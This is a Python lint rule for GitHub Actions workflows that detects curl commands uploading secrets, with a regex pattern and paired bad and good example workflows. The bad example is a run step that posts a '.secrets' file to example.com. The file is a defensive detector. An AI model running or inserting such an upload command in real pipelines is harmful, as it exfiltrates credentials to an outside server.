import re
from collections.abc import Iterator

from aurora_devops import Finding, Script, bad, good, policy
from aurora_devops.kinds.github import StepIn

_CURL = re.compile(
    r"\bcurl\b[^\n|;&]*?(?:--data(?:-\w+)?|-d|-F|--form|-T|--upload-file)[ =]?[\"']?@?[^\s\"']*secret[^\n]*",
    re.IGNORECASE,
)


@policy(
    "GHA067",
    severity="warning",
    category="security",
    equivalents={"checkov": "CKV_GHA_3"},
    examples=[
        bad(
            """\
            on: push
            jobs:
              build:
                runs-on: ubuntu-24.04
                steps:
                  - run: «curl -X POST --data "@.secrets" https://example.com»
            """
        ),
        good(
            """\
            on: push
            jobs:
              build:
                runs-on: ubuntu-24.04
                steps:
                  - run: curl -X POST --data "@report.json" https://example.com
            """
        ),
    ],
)
def secret_upload(script: Script) -> Iterator[Finding]:
    """A script sends a file or a value named secret to a server.

    Compromised workflows exfiltrate secrets like this.
    Find out who added the command; if it is intended, pass the secret in a header that is read from the environment.
    """
    if "curl" in script.text and isinstance(script.context, StepIn):
        for match in _CURL.finditer(script.text):
            at = script.place(match.start(), match.start() + len(match[0].rstrip()))
            yield Finding(at=at, message="curl sends a file or value named secret")
